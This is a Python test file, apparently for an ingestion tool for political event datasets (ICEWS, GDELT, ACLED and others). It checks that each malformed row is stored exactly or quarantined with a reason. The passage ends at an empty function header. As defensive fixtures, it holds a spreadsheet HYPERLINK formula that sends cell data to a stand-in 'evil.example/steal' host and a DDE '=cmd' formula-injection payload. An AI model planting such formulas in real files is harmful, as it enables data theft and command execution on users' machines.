"""Bad input for every reader: each row is stored exactly or quarantined with a reason, and nothing is lost.

Hypothesis writes files of one format row by row, each row carrying at most one fault
(wrong column count, embedded tab or newline, invalid UTF-8, impossible / future / ancient
dates, unknown codes, codes without their leading zero, empty actors, spreadsheet formulas,
arbitrary Unicode), optionally cutting the last line short. It knows what each row must
become and checks it against the real store after ``ingest``: stored rows keep their date,
code and free text byte for byte; refused rows are quarantined at their line with the
expected reason; ``read == stored + duplicates + quarantined`` and ``read`` equals the
records in the file counted independently.
"""
from __future__ import annotations

import csv
import io
import json
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hardening_tools import FIXTURES, run
from tension.ingest import REASONS, ingest, read_events
from tension.store import Store

FORMATS = ("icews", "icews-kg", "gdelt1", "gdelt2", "acled", "polecat", "csv", "jsonl")
TSV = {"icews", "icews-kg", "gdelt1", "gdelt2", "polecat"}
FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click for details")'
BAD_BYTE = "\ue000"
"""Placeholder written as the invalid UTF-8 byte 0xFF once the line is encoded."""
GDELT_TEMPLATE = (FIXTURES / "gdelt2.export.CSV").read_text().splitlines()[0].split("\t")
EXT = {"icews": "tab", "icews-kg": "txt", "gdelt1": "export.CSV", "gdelt2": "export.CSV", "acled": "csv",
       "polecat": "tsv", "csv": "csv", "jsonl": "jsonl"}
FREE_COLUMN = {"icews": "source_ref", "icews-kg": "source_actor", "gdelt1": "source_ref", "gdelt2": "source_ref",
               "acled": "text", "polecat": "text", "csv": "text", "jsonl": "text"}
"""Where each format's free-text field lands in the store."""

FAULTS_ALL = ("ok", "ok", "ok", "formula", "impossible_date", "future_date", "ancient_date", "unknown_code",
              "empty_actor", "bad_utf8")
FAULTS_CODED = ("no_leading_zero",)
FAULTS_TSV = ("short", "long", "tab", "newline")
FAULTS_QUOTED = ("tab", "newline", "short")
EXPECTED = {
    "ok": "stored", "formula": "stored", "no_leading_zero": "stored", "impossible_date": "bad_date",
    "future_date": "bad_date", "ancient_date": "bad_date", "unknown_code": "unknown_event_code",
    "empty_actor": "empty_actor", "bad_utf8": "bad_encoding", "short": "wrong_column_count",
}


def faults_for(fmt: str) -> tuple[str, ...]:
    extra = FAULTS_TSV if fmt in TSV else FAULTS_QUOTED
    coded = FAULTS_CODED if fmt in ("icews", "gdelt1", "gdelt2", "csv", "jsonl") else ()
    return FAULTS_ALL + coded + extra


def expected_outcome(fmt: str, fault: str) -> str:
    """``stored``, a quarantine reason, or ``any`` (the row's pieces may land either way)."""
    if fault in ("long", "tab") and fmt in TSV:
        return "wrong_column_count"
    if fault == "tab":
        return "stored"  # quoted formats keep the tab inside the field
    if fault == "newline":
        return "any" if fmt in TSV else "stored"
    if fault == "short" and fmt == "jsonl":
        return "bad_json"
    return EXPECTED[fault]


# --------------------------------------------------------------------------- building rows


@dataclass
class Row:
    i: int
    fault: str
    free: str
    date: pd.Timestamp = field(init=False)
    code: str = field(init=False)

    def __post_init__(self) -> None:
        self.date = pd.Timestamp("2014-01-01") + pd.Timedelta(days=self.i)
        self.code = ("112", "190", "042", "0874", "1831")[self.i % 5]


def _free(row: Row) -> str:
    f = row.free
    if row.fault == "formula":
        return FORMULA
    if row.fault == "bad_utf8":
        return f[: len(f) // 2] + BAD_BYTE + f[len(f) // 2 :]
    if row.fault == "tab":
        return f + "\t" + f
    if row.fault == "newline":
        return f + "\n" + f
    return f


def _date_text(row: Row, compact: bool = False) -> str:
    text = {"impossible_date": "2014-02-30", "future_date": "2999-01-01", "ancient_date": "0999-12-31"}.get(
        row.fault, row.date.strftime("%Y-%m-%d"))
    return text.replace("-", "") if compact else text


def _code(row: Row) -> str:
    if row.fault == "unknown_code":
        return "999"
    if row.fault == "no_leading_zero":
        return "42"
    return row.code


def stored_code(fmt: str, row: Row) -> str:
    from tension.taxonomy import cameo_for_plover, codes_for_event_names

    if fmt == "icews-kg":
        return str(codes_for_event_names(pd.Series([KG_NAMES[row.i % len(KG_NAMES)]])).iloc[0])
    if fmt == "acled":
        return "190"
    if fmt == "polecat":
        return str(cameo_for_plover(pd.Series(["ACCUSE"])).iloc[0])
    return "042" if row.fault == "no_leading_zero" else row.code


KG_NAMES = ("Accuse", "Make statement", "Use conventional military force", "Consult")


def _fields(fmt: str, row: Row) -> list[str] | dict[str, str]:
    free, empty = _free(row), row.fault == "empty_actor"
    if fmt == "icews":
        return [str(5000 + row.i), _date_text(row), "" if empty else "Government (Armenia)", "Government", "Armenia", "",
                _code(row), "-2", "Azerbaijan", "", "Azerbaijan", free, "1", "AFP", "", "", "", "Armenia", "40.1", "44.5"]
    if fmt == "icews-kg":
        name = "Invent a new verb" if row.fault == "unknown_code" else KG_NAMES[row.i % len(KG_NAMES)]
        return ["" if empty else "Militia " + free, name, "Azerbaijan", _date_text(row)]
    if fmt in ("gdelt1", "gdelt2"):
        f = list(GDELT_TEMPLATE)
        f[0], f[1], f[26], f[31] = str(9_000_000 + row.i), _date_text(row, compact=True), _code(row), "3"
        f[5], f[6], f[7], f[15], f[16], f[17] = ("", "", "", "", "", "") if empty else (
            "ARM", "ARMENIA", "ARM", "AZE", "AZERBAIJAN", "AZE")
        return f[:57] + [free] if fmt == "gdelt1" else f[:60] + [free]
    if fmt == "acled":
        typ, sub = ("Unknown type", "Unknown sub-event") if row.fault == "unknown_code" else ("Battles", "Armed clash")
        return [f"UKR{row.i}", _date_text(row), typ, sub, "" if empty else "Military Forces of Russia (2000-)",
                "Military Forces of Ukraine (2019-)", free, "Reuters"]
    if fmt == "polecat":
        typ = "NOT_A_PLOVER_TYPE" if row.fault == "unknown_code" else "ACCUSE"
        return [f"2023-{row.i}", _date_text(row), typ, "None", "" if empty else "Nikol Pashinyan", "Armenia",
                "Ilham Aliyev", "Azerbaijan", free, f"story-{row.i}"]
    values = {"event_id": f"e{row.i}", "date": _date_text(row), "source_actor": "" if empty else "Government (Armenia)",
              "target_actor": "Azerbaijan", "cameo_code": _code(row), "text": free, "source_ref": "https://example.org/a"}
    return values


HEADERS = {
    "icews": ["Event ID", "Event Date", "Source Name", "Source Sectors", "Source Country", "Event Text", "CAMEO Code",
              "Intensity", "Target Name", "Target Sectors", "Target Country", "Story ID", "Sentence Number", "Publisher",
              "City", "District", "Province", "Country", "Latitude", "Longitude"],
    "acled": ["event_id_cnty", "event_date", "event_type", "sub_event_type", "actor1", "actor2", "notes", "source"],
    "polecat": ["Event ID", "Event Date", "Event Type", "Event Mode", "Actor Name", "Actor Country", "Recipient Name",
                "Recipient Country", "Headline", "Story ID"],
    "csv": ["event_id", "date", "source_actor", "target_actor", "cameo_code", "text", "source_ref"],
}


def _line(fmt: str, row: Row) -> str:
    values = _fields(fmt, row)
    if fmt == "jsonl":
        if row.fault == "short":
            return json.dumps(values, ensure_ascii=False)[:25]  # a cut-off object
        return json.dumps(values, ensure_ascii=False)
    if isinstance(values, dict):
        values = list(values.values())
    if row.fault == "short":
        values = values[:-2] if fmt == "gdelt1" else values[:-1]  # GDELT 1.0 rows have 57 or 58 fields
    if row.fault == "long":
        values = values + ["extra"]
    if fmt in TSV:
        return "\t".join(values)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(values)
    return buf.getvalue()[:-1]


def build_file(fmt: str, rows: list[Row], truncate: float | None) -> tuple[bytes, dict[int, str], dict[int, Row]]:
    """File bytes, the expected outcome at each record's first line, and the row written there."""
    header = HEADERS.get(fmt)
    parts: list[str] = []
    line = 1
    if header is not None:
        parts.append(("\t" if fmt in TSV else ",").join(header))
        line = 2
    expected: dict[int, str] = {}
    at: dict[int, Row] = {}
    texts = [_line(fmt, r) for r in rows]
    if truncate is not None and texts:
        last = texts[-1]
        texts[-1] = last[: max(1, int(len(last) * truncate))]
    for k, (row, text) in enumerate(zip(rows, texts)):
        outcome = "any" if (truncate is not None and k == len(rows) - 1) else expected_outcome(fmt, row.fault)
        expected[line] = outcome
        at[line] = row
        line += 1 + text.count("\n")
        parts.append(text)
    data = "\n".join(parts) + ("" if truncate is not None else "\n")
    raw = data.encode("utf-8").replace(BAD_BYTE.encode("utf-8"), b"\xff")
    return raw, expected, at


def count_records(fmt: str, raw: bytes) -> int:
    """Records in the file, counted independently of the readers (blank lines are not records)."""
    if fmt in TSV or fmt == "jsonl":
        lines = [ln.rstrip(b"\r") for ln in raw.split(b"\n")]
        body = lines[1:] if fmt in HEADERS else lines
        return sum(1 for ln in body if (ln.strip() if fmt == "jsonl" else ln))
    text = raw.decode("utf-8", errors="surrogateescape")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return sum(1 for r in rows[1:] if r and not (len(r) == 1 and not r[0].strip()))


# --------------------------------------------------------------------------- the check


def check_file(fmt: str, rows: list[Row], truncate: float | None, tmp: Path) -> None:
    raw, expected, at = build_file(fmt, rows, truncate)
    path = tmp / f"events.{EXT[fmt]}"
    path.write_bytes(raw)
    store = Store(tmp / "store")
    report = ingest([path], store, format=fmt)
    t = report.total
    assert t.read == count_records(fmt, raw), "records were lost or invented while reading"
    assert t.read == t.stored + t.duplicates + t.quarantined
    assert store.summary()["identity_holds"]
    events = store.read()
    quarantine = store.quarantine()
    assert set(quarantine["reason"]) <= set(REASONS) | {"bad_json"}
    assert len(events) == t.stored and len(quarantine) == t.quarantined
    stored_at = {int(r.source_line): r for r in events.itertuples()}
    reason_at = dict(zip(quarantine["source_line"].astype(int), quarantine["reason"]))
    assert not set(stored_at) & set(reason_at), "a line was both stored and quarantined"
    free_col = FREE_COLUMN[fmt]
    for line, outcome in expected.items():
        row = at[line]
        if outcome == "any":
            continue
        if outcome != "stored":
            assert reason_at.get(line) == outcome, (line, row.fault, reason_at.get(line), outcome)
            continue
        assert line in stored_at, (line, row.fault, reason_at.get(line))
        ev = stored_at[line]
        assert ev.date == row.date
        assert ev.cameo_code == stored_code(fmt, row), (row.fault, ev.cameo_code)
        want = ("Militia " + _free(row)).replace("_", " ") if fmt == "icews-kg" else _free(row)
        assert getattr(ev, free_col) == want, (row.fault, getattr(ev, free_col), want)
        assert ev.source_file == str(path)
    # every stored row is canonical: a known code, a real date not after today, a quad class
    if len(events):
        today = pd.Timestamp.now(tz="UTC").tz_localize(None).normalize()
        assert (events["date"] <= today).all() and (events["date"].dt.year >= 1000).all()
        assert events["quad_class"].between(1, 4).all()
        assert (events["root_code"] == events["cameo_code"].str[:2]).all()


# free text: printable Unicode without tabs, newlines or the placeholder, no surrounding blanks or quotes,
# never one of the missing-value tokens the readers turn into nulls
_free_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Co", "Zl", "Zp")), min_size=1, max_size=40
).map(lambda s: s.strip().strip('"').strip()).filter(
    lambda s: bool(s) and s not in ("NA", "None", "null", "NULL", "nan") and "\u0085" not in s
).map(lambda s: "x" + s + "y")
"""Wrapped in letters: surrounding quotes or blanks would be (rightly) normalised away by the readers."""


def rows_strategy(fmt: str) -> st.SearchStrategy[list[Row]]:
    one = st.tuples(st.sampled_from(faults_for(fmt)), _free_text)
    return st.lists(one, min_size=1, max_size=25).map(lambda xs: [Row(i, f, t) for i, (f, t) in enumerate(xs)])


def _run(fmt: str, rows: list[Row], truncate: float | None) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        check_file(fmt, rows, truncate, Path(tmp))


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_row_is_stored_exactly_or_quarantined_with_its_reason(fmt: str) -> None:
    @settings(max_examples=8, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(rows=rows_strategy(fmt), truncate=st.one_of(st.none(), st.floats(0.05, 0.95)))
    def check(rows: list[Row], truncate: float | None) -> None:
        _run(fmt, rows, truncate)

    check()


@pytest.mark.heavy
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_row_is_stored_exactly_or_quarantined_many_examples(fmt: str) -> None:
    @settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(rows=rows_strategy(fmt), truncate=st.one_of(st.none(), st.floats(0.05, 0.95)))
    def check(rows: list[Row], truncate: float | None) -> None:
        _run(fmt, rows, truncate)

    check()


# --------------------------------------------------------------------------- targeted cases


def _all_faults(fmt: str) -> list[Row]:
    return [Row(i, f, f"headline {i} ÄÖ ✓") for i, f in enumerate(dict.fromkeys(faults_for(fmt)))]


def test_every_fault_in_every_format_through_one_real_process(tmp_path: Path) -> None:
    """`tension ingest --strict --json` on one file per format (formats auto-detected), as a subprocess.

    Exit 6 (rows were quarantined, the good ones stored), the identity per file in the JSON,
    every expected reason counted, no traceback.
    """
    files, expected_reasons, records = [], {}, {}
    for fmt in FORMATS:
        raw, expected, _ = build_file(fmt, _all_faults(fmt), truncate=0.5)
        path = tmp_path / f"bad-{fmt}.{EXT[fmt]}"
        path.write_bytes(raw)
        files.append(str(path))
        expected_reasons[str(path)] = {r for r in expected.values() if r not in ("stored", "any")}
        records[str(path)] = count_records(fmt, raw)
    proc = run(["ingest", *files, "--store", str(tmp_path / "store"), "--strict", "--json"], cwd=tmp_path)
    assert proc.returncode == 6, proc.stderr[-2000:]
    assert "quarantined" in proc.stderr
    out = json.loads(proc.stdout)
    assert out["total"]["identity_holds"]
    for rep, fmt in zip(out["files"], FORMATS):
        assert rep["format"] == fmt
        assert rep["identity_holds"] and rep["read"] == records[rep["file"]] and rep["stored"] + rep["duplicates"] >= 2, (fmt, rep)
        assert set(rep["quarantined_by_reason"]) >= expected_reasons[rep["file"]]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_10_mb_field_is_stored_whole_or_quarantined(fmt: str, tmp_path: Path) -> None:
    big = "A" * (10 * 1024 * 1024)
    rows = [Row(0, "ok", "small before"), Row(1, "ok", big), Row(2, "ok", "small after")]
    raw, _, at = build_file(fmt, rows, truncate=None)
    path = tmp_path / f"big.{EXT[fmt]}"
    path.write_bytes(raw)
    store = Store(tmp_path / "store")
    t = ingest([path], store, format=fmt).total
    assert t.read == 3 == t.stored + t.duplicates + t.quarantined
    events = store.read()
    col = FREE_COLUMN[fmt]
    values = set(events[col])
    want_small = {("Militia " if fmt == "icews-kg" else "") + s for s in ("small before", "small after")}
    assert want_small <= values, "the rows around the big one were lost"
    big_stored = [v for v in values if isinstance(v, str) and len(v) > 1_000_000]
    assert big_stored == [("Militia " if fmt == "icews-kg" else "") + big] or t.quarantined == 1


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_byte_order_mark_changes_nothing(fmt: str, tmp_path: Path) -> None:
    rows = [Row(i, "ok", f"headline {i}") for i in range(3)]
    raw, _, _ = build_file(fmt, rows, truncate=None)
    plain, bom = tmp_path / f"plain.{EXT[fmt]}", tmp_path / f"bom.{EXT[fmt]}"
    plain.write_bytes(raw)
    bom.write_bytes(b"\xef\xbb\xbf" + raw)
    a, b = read_events(plain, format=fmt), read_events(bom, format=fmt)
    cols = ["event_id", "date", "source_actor", "target_actor", "cameo_code", FREE_COLUMN[fmt]]
    assert len(b.quarantine) == 0 and b.read == a.read == 3
    assert b.events[cols].equals(a.events[cols])
    assert read_events(bom).format == fmt or fmt in ("gdelt1",)  # auto-detection sees through the BOM too


def _gdelt_line(i: int, code: str = "190", mentions: str = "3") -> str:
    f = list(GDELT_TEMPLATE)
    f[0], f[1], f[26], f[31] = str(7_000_000 + i), "20240301", code, mentions
    return "\t".join(f)


def test_negative_or_absurd_counts_never_become_weights(tmp_path: Path) -> None:
    path = tmp_path / "counts.export.CSV"
    values = ["-5", "1e300", "99999999999999999999999999", "3"]
    path.write_text("".join(_gdelt_line(i, mentions=m) + "\n" for i, m in enumerate(values)))
    store = Store(tmp_path / "store")
    t = ingest([path], store, format="gdelt2").total
    assert t.read == 4 == t.stored + t.quarantined
    w = store.read()["weight"].to_numpy(dtype=float)
    assert np.isfinite(w).all() and (w >= 0).all() and (w <= 1e6).all(), w


def test_cameo_codes_with_and_without_leading_zeros_map_to_the_same_code(tmp_path: Path) -> None:
    path = tmp_path / "zeros.export.CSV"
    path.write_text("".join(_gdelt_line(i, code=c) + "\n" for i, c in enumerate(["042", "42", "0874", "874"])))
    events = read_events(path, format="gdelt2").events
    assert events["cameo_code"].tolist() == ["042", "042", "0874", "0874"]


def test_gdelt_event_code_read_as_integer_keeps_its_leaf_meaning(tmp_path: Path) -> None:
    path = tmp_path / "ten.export.CSV"
    path.write_text(_gdelt_line(0, code="10") + "\n")
    assert read_events(path, format="gdelt2").events["cameo_code"].tolist() == ["010"]


def test_icews_event_code_read_as_integer_keeps_its_leaf_meaning(tmp_path: Path) -> None:
    rows = [Row(0, "ok", "x")]
    raw, _, _ = build_file("icews", rows, truncate=None)
    path = tmp_path / "ten.tab"
    path.write_bytes(raw.replace(b"\t112\t", b"\t10\t"))
    assert read_events(path, format="icews").events["cameo_code"].tolist() == ["010"]


def test_formula_text_is_stored_as_text_in_every_free_field(tmp_path: Path) -> None:
    path = tmp_path / "formula.csv"
    path.write_text(
        "event_id,date,source_actor,target_actor,cameo_code,text,source_ref\n"
        f'f1,2014-03-01,"{FORMULA.replace(chr(34), chr(34) * 2)}",Azerbaijan,190,"{FORMULA.replace(chr(34), chr(34) * 2)}",'
        "\"=cmd|' /C calc'!A0\"\n"
    )
    store = Store(tmp_path / "store")
    assert ingest([path], store).total.stored == 1
    ev = store.read().iloc[0]
    assert ev["source_actor"] == FORMULA and ev["text"] == FORMULA and ev["source_ref"] == "=cmd|' /C calc'!A0"


def test_a_dataset_column_in_a_csv_is_kept(tmp_path: Path) -> None:
    path = tmp_path / "two-sources.csv"
    path.write_text("date,source_actor,target_actor,cameo_code,dataset\n"
                    "2014-03-01,Armenia,Azerbaijan,190,synthetic\n2014-03-02,Armenia,Azerbaijan,190,field-notes\n")
    assert read_events(path).events["dataset"].tolist() == ["synthetic", "field-notes"]


# --------------------------------------------------------------------------- issue 15: one bad byte never costs a delivery


def _ok_file(fmt: str, n: int = 6) -> tuple[bytes, list[int]]:
    """A clean file of ``n`` rows and the line number of each row."""
    raw, expected, _ = build_file(fmt, [Row(i, "ok", f"headline {i}") for i in range(n)], truncate=None)
    return raw, sorted(expected)


def _with_stray_cr(fmt: str, raw: bytes, row: int) -> bytes:
    """Put a bare CR inside the date field of the ``row``-th record (unquoted in every format)."""
    date = (pd.Timestamp("2014-01-01") + pd.Timedelta(days=row)).strftime("%Y-%m-%d")
    if fmt in ("gdelt1", "gdelt2"):
        date = date.replace("-", "")
    assert raw.count(date.encode()) >= 1
    return raw.replace(date.encode(), date[:4].encode() + b"\r" + date[4:].encode(), 1)


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_stray_carriage_return_costs_one_quarantined_line_not_the_file(fmt: str, tmp_path: Path) -> None:
    raw, lines = _ok_file(fmt)
    path = tmp_path / f"cr.{EXT[fmt]}"
    path.write_bytes(_with_stray_cr(fmt, raw, 2))
    store = Store(tmp_path / "store")
    t = ingest([path], store, format=fmt).total
    assert t.read == 6 == count_records(fmt, raw) and t.stored == 5 and t.quarantined == 1
    q = store.quarantine()
    assert q["source_line"].tolist() == [lines[2]]
    assert q["reason"].tolist() == ["bad_json" if fmt == "jsonl" else "stray_carriage_return"]
    assert sorted(store.read()["source_line"].astype(int)) == [x for k, x in enumerate(lines) if k != 2]


def test_a_bare_cr_in_icews_kg_tab_and_gdelt2_files_through_the_real_command(tmp_path: Path) -> None:
    """The issue's reproduction: `tension ingest --json` on each file exits 0 and quarantines only the CR's line."""
    for fmt in ("icews-kg", "icews", "gdelt2"):
        raw, _ = _ok_file(fmt)
        path = tmp_path / f"cr-{fmt}.{EXT[fmt]}"
        path.write_bytes(_with_stray_cr(fmt, raw, 3))
        proc = run(["ingest", str(path), "--format", fmt, "--store", str(tmp_path / f"s-{fmt}"), "--json"], cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr[-2000:]
        total = json.loads(proc.stdout)["total"]
        assert (total["read"], total["stored"], total["quarantined"]) == (6, 5, 1), total
        assert total["quarantined_by_reason"] == {"stray_carriage_return": 1}


def test_a_bare_cr_inside_a_quoted_csv_field_is_text(tmp_path: Path) -> None:
    path = tmp_path / "quoted.csv"
    path.write_bytes(b"date,source_actor,target_actor,cameo_code,text\n"
                     b'2014-03-01,Armenia,Azerbaijan,190,"one\rtwo"\n2014-03-02,Armenia,Azerbaijan,190,plain\n')
    store = Store(tmp_path / "store")
    t = ingest([path], store).total
    assert (t.read, t.stored, t.quarantined) == (2, 2, 0)
    assert sorted(store.read()["text"]) == ["one\rtwo", "plain"]


CSV_HEAD = "event_id,date,source_actor,target_actor,cameo_code,text\n"


def _csv_rows(n: int) -> list[str]:
    return [f"e{i},2014-03-{i + 1:02d},Armenia,Azerbaijan,190,note {i}\n" for i in range(n)]


@pytest.mark.parametrize("where", [2, 6], ids=["middle", "last"])
def test_an_unclosed_quote_costs_only_its_own_record(where: int, tmp_path: Path) -> None:
    """Before: the record with the open quote swallowed the rows after it, and `read` fell short of the file."""
    rows = _csv_rows(7)
    rows[where] = rows[where].replace(",note", ',"note')
    rows[4] = rows[4].replace("note 4", '"note, 4"')  # a later quote must not close the open one
    path = tmp_path / "quote.csv"
    path.write_text(CSV_HEAD + "".join(rows))
    store = Store(tmp_path / "store")
    t = ingest([path], store).total
    assert (t.read, t.stored, t.quarantined) == (7, 6, 1)
    assert store.quarantine()["source_line"].tolist() == [where + 2]
    assert sorted(store.read()["event_id"]) == sorted(f"analyst:e{i}" for i in range(7) if i != where)
    assert "note, 4" in set(store.read()["text"])


def test_a_quoted_field_spanning_lines_is_still_one_record(tmp_path: Path) -> None:
    rows = _csv_rows(4)
    rows[1] = rows[1].replace("note 1", '"note 1\n\ncontinued, here"')
    path = tmp_path / "multi.csv"
    path.write_text(CSV_HEAD + "".join(rows))
    store = Store(tmp_path / "store")
    t = ingest([path], store).total
    assert (t.read, t.stored, t.quarantined) == (4, 4, 0)
    assert "note 1\n\ncontinued, here" in set(store.read()["text"])
    assert sorted(store.read()["source_line"].astype(int)) == [2, 3, 6, 7]


def test_a_bare_cr_outside_quotes_costs_one_csv_record(tmp_path: Path) -> None:
    rows = _csv_rows(7)
    rows[3] = rows[3].replace("Armenia", "Arm\renia")
    path = tmp_path / "cr.csv"
    path.write_bytes((CSV_HEAD + "".join(rows)).encode())
    store = Store(tmp_path / "store")
    t = ingest([path], store).total
    assert (t.read, t.stored, t.quarantined) == (7, 6, 1)
    q = store.quarantine()
    assert q["source_line"].tolist() == [5] and q["reason"].tolist() == ["stray_carriage_return"]


@pytest.mark.parametrize("fmt", ["gdelt2", "icews-kg", "icews", "csv", "jsonl"])
def test_blank_line_runs_are_not_records_and_keep_line_numbers(fmt: str, tmp_path: Path) -> None:
    raw, lines = _ok_file(fmt, n=4)
    head, body = (raw.split(b"\n", 1) if fmt in HEADERS else (b"", raw))
    records = body.split(b"\n")[:-1]
    blank = [b"\n" * 3, b"\r\n" * 100_000, b"", b"\n"]
    data = (head + b"\n" if head else b"") + b"\n" * 5 * bool(not head) + b"".join(
        r + b"\n" + gap for r, gap in zip(records, blank))
    path = tmp_path / f"blank.{EXT[fmt]}"
    path.write_bytes(data)
    store = Store(tmp_path / "store")
    t = ingest([path], store, format=fmt).total
    assert (t.read, t.stored, t.quarantined) == (4, 4, 0)
    # the physical line of every record, counted in the file itself
    physical = [k + 1 for k, ln in enumerate(data.split(b"\n")) if ln.rstrip(b"\r")][1 if head else 0:]
    assert sorted(store.read()["source_line"].astype(int)) == physical


@pytest.mark.parametrize("text,stored", [
    ("1000-01-01", False), ("1677-09-21", False), ("1899-12-31", False), ("1900-01-01", True),
    ("today+1", True), ("today+2", False), ("2262-04-12", False),
])
def test_event_dates_outside_1900_to_tomorrow_are_quarantined_with_reason(text: str, stored: bool, tmp_path: Path) -> None:
    from tension.schema import EARLIEST_EVENT_DATE

    assert EARLIEST_EVENT_DATE == "1900-01-01"
    today = pd.Timestamp.now(tz="UTC").tz_localize(None).normalize()
    if text.startswith("today"):
        text = (today + pd.Timedelta(days=int(text[-1]))).strftime("%Y-%m-%d")
    path = tmp_path / "dates.csv"
    path.write_text(CSV_HEAD + f"old,{text},Armenia,Azerbaijan,190,x\n" + "".join(_csv_rows(2)))
    store = Store(tmp_path / "store")
    t = ingest([path], store).total
    assert t.read == 3 and t.stored == 2 + stored and t.quarantined == (not stored)
    events = store.read()  # never fails on a stored date
    if stored:
        assert pd.Timestamp(text) in set(events["date"])
    else:
        assert store.quarantine()["reason"].tolist() == ["bad_date"]


def test_a_year_1000_gdelt_row_is_quarantined_and_the_store_still_reads(tmp_path: Path) -> None:
    path = tmp_path / "old.export.CSV"
    path.write_text("".join(_gdelt_line(i) + "\n" for i in range(3)).replace("20240301", "10000301", 1))
    store = Store(tmp_path / "store")
    t = ingest([path], store, format="gdelt2").total
    assert (t.read, t.stored, t.quarantined) == (3, 2, 1)
    assert store.quarantine()["reason"].tolist() == ["bad_date"]
    assert len(store.read()) == 2 and len(store.read(start="1990-01-01", end="2100-01-01")) == 2


# --------------------------------------------------------------------------- damaged files and folders


def _damaged(kind: str, raw: bytes, name: str, tmp: Path) -> Path:
    import bz2
    import gzip
    import zipfile

    if kind == "truncated.gz":
        data = gzip.compress(raw)
        data = data[: len(data) // 2]
    elif kind == "plain.gz":
        data = raw
    elif kind == "truncated.bz2":
        data = bz2.compress(raw)
        data = data[: len(data) // 2]
    elif kind == "plain.bz2":
        data = raw
    elif kind == "plain.zip":
        data = raw
    else:  # truncated.zip
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
            zf.writestr(name, raw)
        data = buf.getvalue()[: len(buf.getvalue()) // 2]
    path = tmp / f"{name}.{kind.split('.')[1]}"
    path.write_bytes(data)
    return path


DAMAGE = ("truncated.gz", "plain.gz", "truncated.bz2", "plain.bz2", "plain.zip", "truncated.zip")


@pytest.mark.parametrize("fmt", ["gdelt2", "icews-kg", "csv"])
@pytest.mark.parametrize("kind", DAMAGE)
def test_a_damaged_compressed_file_is_exit_2_naming_the_file(fmt: str, kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from tension.cli import main

    raw, _ = _ok_file(fmt)
    path = _damaged(kind, raw, f"events.{EXT[fmt]}", tmp_path)
    good = tmp_path / f"good.{EXT[fmt]}"
    good.write_bytes(raw)
    for fmt_arg in (fmt, "auto"):
        code = main(["ingest", str(good), str(path), "--format", fmt_arg, "--store", str(tmp_path / "store"), "--json"])
        out, err = capsys.readouterr()
        assert code == 2, (kind, fmt_arg, out, err)
        payload = json.loads(out)
        assert payload["exit_code"] == 2 and payload["committed"] is False
        assert str(path) in payload["error"] and str(path) in err
        assert "Aborted" not in out + err and "bug" not in out + err
    assert Store(tmp_path / "store").summary()["events"] == 0, "a failed run committed its good file"


def test_a_truncated_gz_through_the_real_command(tmp_path: Path) -> None:
    raw, _ = _ok_file("gdelt2")
    path = _damaged("truncated.gz", raw, "events.export.CSV", tmp_path)
    proc = run(["ingest", str(path), "--store", str(tmp_path / "store"), "--json"], cwd=tmp_path)
    assert proc.returncode == 2, proc.stderr
    assert "ends early" in json.loads(proc.stdout)["error"] and path.name in proc.stderr


def test_a_symlink_loop_in_a_folder_is_skipped_with_a_warning(tmp_path: Path) -> None:
    import os

    inbox = tmp_path / "inbox"
    (inbox / "sub").mkdir(parents=True)
    raw, _ = _ok_file("icews-kg")
    (inbox / "sub" / "a.txt").write_bytes(raw)
    os.symlink("..", inbox / "sub" / "up")  # a loop back to the inbox
    os.symlink("self", inbox / "self")  # a link to itself
    os.symlink(tmp_path / "missing.txt", inbox / "broken")
    report = ingest([inbox], Store(tmp_path / "store"), format="icews-kg")
    assert report.total.read == 6 and [f.file for f in report.files] == [str(inbox / "sub" / "a.txt")]
    assert sorted(os.path.basename(s["path"]) for s in report.skipped) == ["broken", "self", "up"]
    proc = run(["ingest", str(inbox), "--store", str(tmp_path / "store2")], cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "skipped" in proc.stderr and "loop" in proc.stderr


# --------------------------------------------------------------------------- the wrong format (issue 20, item 4)


@pytest.mark.parametrize("given,actual", [("gdelt2", "icews-kg"), ("icews", "icews-kg"), ("gdelt1", "gdelt2"), ("jsonl", "csv")])
def test_a_file_read_with_the_wrong_format_is_refused_naming_the_right_one(given: str, actual: str, tmp_path: Path) -> None:
    from tension.errors import UsageError

    raw, _ = _ok_file(actual, n=12)
    path = tmp_path / f"events.{EXT[actual]}"
    path.write_bytes(raw)
    store = Store(tmp_path / "store")
    with pytest.raises(UsageError, match=rf"(1[123]) of \1 records were quarantined under --format {given}.*reads as {actual}.*"
                                         rf"not committed.*--format {actual}"):
        ingest([path], store, format=given)
    assert store.batches().empty and not any((tmp_path / "store").rglob("*.parquet")), "nothing is committed or written"
    assert ingest([path], store, format=actual).total.stored == 12


def test_one_cut_short_line_with_another_formats_shape_is_quarantined_not_taken_for_that_format(tmp_path: Path) -> None:
    """Found by the byte-fault fuzzer: a GDELT 2.0 file whose only line was cut to GDELT 1.0's column count."""
    raw, _ = _ok_file("gdelt2", n=1)
    fields = raw.rstrip(b"\r\n").split(b"\t")
    path = tmp_path / "events.export.CSV"
    path.write_bytes(b"\t".join(fields[:57]) + b"\n")  # GDELT 1.0 has 57 columns
    t = ingest([path], Store(tmp_path / "store"), format="gdelt2").total
    assert (t.read, t.stored, t.quarantined) == (1, 0, 1)
    path.write_bytes((b"\t".join(fields[:57]) + b"\n") * 2)  # two such lines are evidence of GDELT 1.0
    from tension.errors import UsageError

    with pytest.raises(UsageError, match="reads as gdelt1"):
        ingest([path], Store(tmp_path / "store2"), format="gdelt2")


def test_a_mostly_bad_file_in_the_right_format_is_still_committed_with_its_quarantine(tmp_path: Path) -> None:
